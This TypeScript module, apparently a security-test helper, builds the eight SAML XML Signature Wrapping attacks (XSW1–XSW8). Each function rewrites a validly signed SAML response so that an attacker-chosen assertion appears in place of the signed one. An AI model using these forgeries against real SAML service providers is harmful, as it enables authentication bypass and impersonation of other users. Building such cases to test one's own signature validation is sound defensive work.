/**
 * The eight signature wrapping attacks on SAML, as SAML Raider numbers them: the signed part stays whole and is moved,
 * another one stands where it was.
 */
import { assertionXml, type Said } from './saml-idp.ts'

const part = (xml: string, pattern: RegExp) => pattern.exec(xml)?.[0] ?? ''
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

/** What each attack makes of a response. */
export type Wrapping = (parts: {
  /** The response; its assertion is signed, or it is (attacks 1 and 2). */
  readonly whole: string
  readonly assertion: string
  readonly signature: string
  /** The same assertion, unsigned. */
  readonly bare: string
  /** What the attacker would like to be. */
  readonly evil: string
}) => string

const into = (signature: string, what: string) =>
  signature.replace('</ds:Signature>', `${what}</ds:Signature>`)
const object = (what: string) => `<ds:Object>${what}</ds:Object>`
/** The evil assertion with something after its issuer, where signatures stand. */
const carrying = (evil: string, what: string) =>
  evil.replace('</saml:Issuer>', `</saml:Issuer>${what}`)
const renamed = (response: string) => response.replace(/ ID="[^"]*"/, ' ID="_evil"')

/** Attacks on a signature of the response. */
export const RESPONSE_WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  XSW1: ({ whole, signature, assertion, evil }) =>
    renamed(whole)
      .replace(assertion, evil)
      .replace(signature, into(signature, whole.replace(signature, ''))),
  XSW2: ({ whole, signature, assertion, evil }) =>
    renamed(whole)
      .replace(assertion, evil)
      .replace(signature, whole.replace(signature, '') + signature),
}

/** Attacks on a signature of the assertion. */
export const ASSERTION_WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  XSW3: ({ whole, assertion, evil }) => whole.replace(assertion, evil + assertion),
  XSW4: ({ whole, assertion, evil }) =>
    whole.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
  XSW5: ({ whole, assertion, signature, bare, evil }) =>
    whole.replace(assertion, carrying(evil, signature) + bare),
  XSW6: ({ whole, assertion, signature, bare, evil }) =>
    whole.replace(assertion, carrying(evil, into(signature, bare))),
  XSW7: ({ whole, assertion, evil }) =>
    whole.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  XSW8: ({ whole, assertion, signature, bare, evil }) =>
    whole.replace(assertion, carrying(evil, into(signature, object(bare)))),
}

/** Makes the attack: `evil` says who the attacker wants to be. */
export function wrapped(whole: string, wrapping: Wrapping, evil: Said): string {
  const assertion = part(whole, ASSERTION)
  const signature = part(whole, SIGNATURE)
  const bare = assertion.replace(signature, '')
  return wrapping({ whole, assertion, signature, bare, evil: assertionXml(evil) })
}
